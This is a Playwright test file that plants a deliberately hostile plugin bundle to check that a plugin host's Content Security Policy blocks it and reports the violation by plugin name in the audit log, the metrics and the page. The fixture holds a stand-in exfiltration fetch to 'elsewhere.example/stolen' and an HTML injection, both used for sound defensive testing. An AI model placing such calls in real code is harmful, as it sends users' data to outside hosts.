// A plugin's policy violation is reported with its name: on the page, in the metrics, in the audit log.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, signIn, test } from './fixtures.ts';

const HOSTILE = `import { createElement } from 'react';
export default () => ({ routes: { HelloPage: () => createElement('p', { 'data-testid': 'hostile' }) } });
for (let n = 0; n < 3; n++) fetch('https://elsewhere.example/stolen').catch(() => {});
try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); } catch {}
`;

const write = ({ plugins }: { plugins: string }): void =>
  writeFileSync(join(plugins, 'hello-page', '1.0.0', 'index.esm.js'), HOSTILE);
test.use({ prepare: async ({}, use) => use(write) });

test("reports a bundle's violation once, as its plugin's", async ({ browser, demo }) => {
  const context = await browser.newContext({ baseURL: demo.origin() });
  const page = await context.newPage();
  await signIn(page, 'operator', '/hello-page');
  await expect(page.getByTestId('hostile')).toHaveCount(1);
  const audit = () =>
    readFileSync(join(demo.bff.state, 'audit-refusals.log'), 'utf8')
      .split('\n')
      .filter((line) => line.includes('"event":"violation"'))
      .map((line) => JSON.parse(line));
  await expect.poll(() => audit().length).toBe(2);
  const lines = audit().map(({ outcome, plugin_id, actor, detail }) => ({
    outcome,
    plugin_id,
    actor,
    directive: JSON.parse(detail).directive,
  }));
  const told = { outcome: 'SDK_CSP_VIOLATION', plugin_id: 'hello-page', actor: 'auth:account:lab:operator' };
  expect(lines).toContainEqual({ ...told, directive: 'connect-src' });
  expect(lines).toContainEqual({ ...told, directive: 'require-trusted-types-for' });
  const metrics = await (await fetch(new URL('/metrics', demo.bff.metricsUrl ?? ''))).text();
  expect(metrics).toMatch(/portcullis_denials_total\{[^}]*plugin_id="hello-page"[^}]*sdk_csp_violation[^}]*\} 2/i);
  await page.getByRole('link', { name: /operator/i }).click();
  await expect(page.getByText(/blocked https:\/\/elsewhere\.example\/stolen/).first()).toBeVisible();
  await context.close();
});
